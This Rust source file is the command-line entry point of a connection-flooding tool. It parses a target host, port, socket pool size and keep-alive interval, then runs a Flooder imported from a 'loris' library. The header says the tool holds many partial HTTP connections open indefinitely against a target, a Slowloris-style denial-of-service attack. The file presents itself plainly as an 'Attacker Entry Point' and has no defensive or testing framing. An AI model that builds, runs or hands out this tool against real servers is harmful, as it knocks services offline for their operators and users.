// ============================================================================
// Connection Flooder - Attacker Entry Point
// ============================================================================
//
// Opens a pool of partially-complete HTTP connections against a target and
// keeps them open indefinitely with periodic no-op header fragments. Runs
// until externally terminated; ctrl-c closes every open socket on the way
// out.
//
// ============================================================================

use std::env;
use std::process;
use std::sync::atomic::{AtomicBool, Ordering as AtomicOrdering};
use std::sync::Arc;

use loris::flooder::{
    DEFAULT_KEEP_ALIVE_INTERVAL_SECS, DEFAULT_POOL_SIZE, DEFAULT_TARGET_PORT, Flooder,
    FlooderConfig,
};

// ============================================================================
// CLI PARSING
// ============================================================================

fn usage(program: &str) {
    eprintln!("Usage: {program} <target> [-p <port>] [-s <sockets>] [-i <interval-seconds>]");
    eprintln!(
        "Defaults: -p {DEFAULT_TARGET_PORT} -s {DEFAULT_POOL_SIZE} -i {DEFAULT_KEEP_ALIVE_INTERVAL_SECS}"
    );
}

fn parse_flag_value<'a, T, I>(iter: &mut I, flag: &str) -> Result<T, String>
where
    T: std::str::FromStr,
    T::Err: std::fmt::Display,
    I: Iterator<Item = &'a String>,
{
    let value = iter
        .next()
        .ok_or_else(|| format!("{flag} requires a value"))?;
    value
        .parse()
        .map_err(|e| format!("Invalid value for {flag}: {e}"))
}

fn parse_args(args: &[String]) -> Result<FlooderConfig, String> {
    let mut host: Option<String> = None;
    let mut config = FlooderConfig {
        host: String::new(),
        port: DEFAULT_TARGET_PORT,
        pool_size: DEFAULT_POOL_SIZE,
        interval_secs: DEFAULT_KEEP_ALIVE_INTERVAL_SECS,
    };

    let mut iter = args.iter();
    while let Some(arg) = iter.next() {
        match arg.as_str() {
            "-p" | "--port" => config.port = parse_flag_value(&mut iter, arg)?,
            "-s" | "--sockets" => config.pool_size = parse_flag_value(&mut iter, arg)?,
            "-i" | "--interval" => config.interval_secs = parse_flag_value(&mut iter, arg)?,
            other if !other.starts_with('-') && host.is_none() => {
                host = Some(other.to_owned());
            }
            other => return Err(format!("Unknown argument: {other}")),
        }
    }

    config.host = host.ok_or("No target host provided")?;
    config.validate()?;
    Ok(config)
}

// ============================================================================
// MAIN FUNCTION
// ============================================================================

fn main() {
    let argv: Vec<String> = env::args().collect();
    let program = argv.first().map_or("flooder", String::as_str);

    // Configuration errors are fatal before any connection activity begins
    let config = match parse_args(&argv[1..]) {
        Ok(config) => config,
        Err(e) => {
            eprintln!("ERROR: {e}");
            usage(program);
            process::exit(1);
        }
    };

    // Name resolution failure is a configuration error too: it is checked
    // here, before the pool ever starts opening sockets
    let mut flooder = match Flooder::new(&config) {
        Ok(flooder) => flooder,
        Err(e) => {
            eprintln!("ERROR: {e}");
            process::exit(1);
        }
    };

    // Shutdown flag flipped by the ctrl-c handler; the maintenance loop
    // polls it between (and during) pacing sleeps
    let running = Arc::new(AtomicBool::new(true));
    let r = running.clone();

    ctrlc::set_handler(move || {
        r.store(false, AtomicOrdering::SeqCst);
    })
    .expect("Error setting Ctrl-C handler");

    flooder.initialize();
    flooder.run(&running);
}
